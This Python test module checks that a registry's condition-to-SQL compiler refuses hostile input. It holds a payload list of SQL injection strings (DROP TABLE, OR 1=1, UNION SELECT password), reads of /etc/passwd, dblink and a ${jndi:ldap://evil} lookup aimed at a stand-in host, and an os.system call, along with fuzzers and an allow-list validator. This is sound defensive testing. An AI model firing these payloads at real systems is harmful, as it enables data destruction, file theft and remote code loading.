# ruff: noqa: E501 -- tables of cases read better in one line each; the SQL is text to be refused.
"""Conditions written by somebody who means harm, and the proof that what comes out of them is only a condition."""

from collections.abc import Iterator
from itertools import product
from random import Random

import sqlglot
from sqlglot import exp

from registry.conditions import Vocabulary
from tests.conditions.generate import Conditions

# What would do something else than ask, in one engine or another, if any of it reached one as SQL.
PAYLOADS = [
    "'; DROP TABLE lead; --", "' OR '1'='1", "x' OR 1=1 --", "') OR (1=1", "' UNION SELECT password FROM registry_user --",
    "1; ATTACH 'goi.sqlite3' AS g", "read_text('/etc/passwd')", "read_csv('/etc/passwd')", "glob('/*')", "pg_read_file('/etc/passwd')",
    "pg_sleep(30)", "sleep(30)", "lo_import('/etc/passwd')", "dblink('host=evil', 'SELECT 1')", "current_setting('data_directory')",
    "version()", "getenv('HOME')", "query('SELECT 1')", "COPY lead TO '/tmp/out'", "INSTALL httpfs", "LOAD httpfs", "PRAGMA database_list",
    "SET memory_limit = '100GB'", "(SELECT 1 FROM registry_user)", "(SELECT source FROM information_schema.tables)",
    "EXISTS (SELECT 1 FROM registry_user u WHERE u.is_steward = TRUE)", "EXISTS (SELECT 1 FROM lead.meetings m, registry_user u WHERE 1 = 1)",
    "EXISTS (SELECT 1 FROM read_csv('/etc/passwd') m WHERE 1 = 1)", "CASE WHEN (SELECT pg_sleep(9)) IS NULL THEN 1 END = 1",
    "department LIKE 'a' ESCAPE '!'", "department SIMILAR TO '(a|b)*'", "department ~ '(a+)+$'", "source::regclass = 1", "$$abc$$ = 'a'",
    "E'\\x41' = 'A'", "U&'\\0041' = 'A'", "0x41 = 65", "'a' || 'b' = 'ab'", "/* hidden */ consent = TRUE", "consent = TRUE /* OR 1=1 */",
    "consent = TRUE -- AND email_valid = TRUE", "consent = TRUE # hidden", "{{ settings.SECRET_KEY }}", "%(password)s", "${jndi:ldap://evil}",
    "__import__('os').system('id')", "consent.__class__ = 1", "lead.lead.lead = 1", "\x00consent = TRUE", "con\u200bsent = TRUE", "consent = TRUE\u202e",
    "сonsent = TRUE", "consent\uff1d TRUE", "\ud800consent = TRUE", "consent = TRUE\u2028OR 1 = 1", "𝐜onsent = TRUE", "'a\\' OR 1=1 --'",
]  # fmt: skip
# Places of a condition where a text can be put.
PLACES = [
    "{}", "NOT ({})", "consent = TRUE AND ({})", "department = '{}'", "department LIKE '%{}%'", "source = '{}'", "source IN ('{}')",
    "created_on >= DATE '{}'", "company.{} >= 1", "{} >= 1", "created_on > as_of - INTERVAL {} DAY", "created_on > as_of - INTERVAL 1 {}",
    "LENGTH({}) > 1", "CAST({} AS DATE) = as_of", "DATE_TRUNC('{}', created_on) = as_of", "EXISTS (SELECT 1 FROM {} m WHERE m.minutes > 1)",
    "EXISTS (SELECT 1 FROM lead.meetings {} WHERE 1 = 1)", "EXISTS (SELECT 1 FROM lead.meetings m WHERE {})", "is_{}", "\"{}\" = 1",
]  # fmt: skip
# Everything that a written condition may call, in any dialect, as the parser of that dialect names it.
CALLS = {
    exp.Coalesce, exp.Length, exp.Trim, exp.Translate, exp.TimestampTrunc, exp.DateTrunc, exp.Extract, exp.Cast, exp.Case, exp.Count, exp.Min,
    exp.Max, exp.Exists, exp.And, exp.Or, exp.Replace, exp.If,
}  # fmt: skip


def injections() -> Iterator[str]:
    """Every payload in every place, as it is and with its quotes doubled as the language asks."""
    for place, payload in product(PLACES, PAYLOADS):
        yield place.format(payload)
        if "'" in payload and "'{}'" in place:
            yield place.format(payload.replace("'", "''"))


def exhausting(random: Random, number: int) -> Iterator[str]:
    """Conditions within the bounds of the language that are as hard to decide as they can be made."""
    makers = (_patterns, _towers, _rows, _calendars, _nests, _wide)
    for index in range(number):
        yield makers[index % len(makers)](random)


def _patterns(random: Random) -> str:
    letters = "abcdefgh営業部"
    patterns = [
        "%".join(["", *(random.choice(letters) + "_" * random.randint(0, 3) for _ in range(random.randint(2, 6))), ""])
        for _ in range(random.randint(5, 60))
    ]
    parts = [f"department {random.choice(['LIKE', 'NOT LIKE', 'ILIKE'])} '{pattern}'" for pattern in patterns]
    return random.choice([" AND ", " OR "]).join(parts)


def _towers(random: Random) -> str:
    value = "company.employees"
    for step in range(random.randint(5, 20)):
        value = f"CASE WHEN {value} > {step} THEN company.employees * {step + 2} ELSE {step} END"
        if len(value) > 4_000:
            break
    return f"{value} > 7"


def _rows(random: Random) -> str:
    parts = []
    for _ in range(random.randint(4, 14)):
        where = f"m.minutes > {random.randint(1, 90)} AND m.held_on > lead.created_on + INTERVAL {random.randint(1, 24)} MONTH"
        parts.append(
            f"(SELECT COUNT(*) FROM lead.meetings m WHERE {where}) {random.choice(['=', '>', '<>'])} {random.randint(1, 99)}"
        )
    return " AND ".join(parts)


def _calendars(random: Random) -> str:
    parts = []
    for _ in range(random.randint(5, 25)):
        moved = f"created_on + INTERVAL {random.randint(1, 11)} MONTH - INTERVAL {random.randint(1, 11)} MONTH"
        parts.append(f"DATE_TRUNC('{random.choice(['week', 'month', 'quarter'])}', {moved}) <> unsubscribed_on")
    return " AND ".join(parts)


def _nests(random: Random) -> str:
    text = "consent = TRUE"
    for depth in range(random.randint(20, 40)):
        text = f"{random.choice(['', 'NOT '])}({text}) {random.choice(['AND', 'OR'])} company.employees <> {depth}"
    return text


def _wide(random: Random) -> str:
    parts = [
        f"(company.employees = {random.randint(1, 10**6)} AND source = 'seminar')"
        for _ in range(random.randint(50, 400))
    ]
    return " OR ".join(parts)


def fuzzed(random: Random, number: int) -> Iterator[str]:
    """Texts near the language: conditions with characters and words taken out, doubled, swapped and put in."""
    strange = [
        *"'\"()%_;-/*\\<>=!~.,:|&@#${}[]\x00\t\n\u3000\u200b\u202e\ud800é部ﾊ１",
        "NULL",
        "SELECT",
        "''",
        "--",
        "/*",
        "||",
        "1e9",
        "0x1",
        "9" * 40,
    ]
    for _ in range(number):
        text = Conditions(random).condition(random.randint(0, 3))
        for _ in range(random.randint(0, 4)):
            text = _mutated(text, random, strange)
        yield _deepened(text, random) if random.random() < 0.05 else text


def _deepened(text: str, random: Random) -> str:
    """Nested in one way or several, up to far beyond what is allowed."""
    ways = [
        "NOT {}",
        "({})",
        "({}) IS TRUE",
        "{} IS NOT TRUE",
        "NOT ({} OR 1 = 1)",
        "CASE WHEN {} THEN 1 ELSE 2 END = 1",
    ]
    for _ in range(random.randint(1, 24)):
        way, times = random.choice(ways), random.randint(1, 24)
        if len(text) > 4_000:
            break
        for _ in range(times):
            text = way.format(text)
    return text


def _mutated(text: str, random: Random, strange: list[str]) -> str:
    one, other = sorted(random.randint(0, len(text)) for _ in range(2))
    words = text.split(" ")
    match random.randint(0, 5):
        case 0:
            return text[:one] + random.choice(strange) + text[one:]
        case 1:
            return text[:one] + text[min(other, one + 3) :]
        case 2:
            return text[:one] + text[one:other] * 2 + text[other:]
        case 3:
            random.shuffle(words)
        case 4:
            words.insert(random.randint(0, len(words)), random.choice(words))
        case 5:
            words[random.randrange(len(words))] = random.choice(strange)
    return " ".join(words)


def says_only_conditions(sql: str, dialect: str, vocabulary: Vocabulary) -> bool:
    """Whether SQL is one question, of declared tables and fields, that calls nothing but what conditions are made of."""
    statements = sqlglot.parse(sql, dialect=dialect)
    if len(statements) != 1 or not isinstance(statements[0], exp.Select):
        return False
    fields = {field for entity in vocabulary.entities.values() for field in entity.fields}
    for node in statements[0].walk():
        if isinstance(node, exp.Table) and (node.name.lower() not in vocabulary.entities or node.db):
            return False
        if isinstance(node, exp.Column) and node.name.lower() not in fields:
            return False
        if isinstance(node, exp.Func) and type(node) not in CALLS:
            return False
        if isinstance(node, (exp.Command, exp.DDL, exp.DML, exp.Set, exp.Pragma, exp.Union)):
            return False
    return not any(node.comments for node in statements[0].walk())
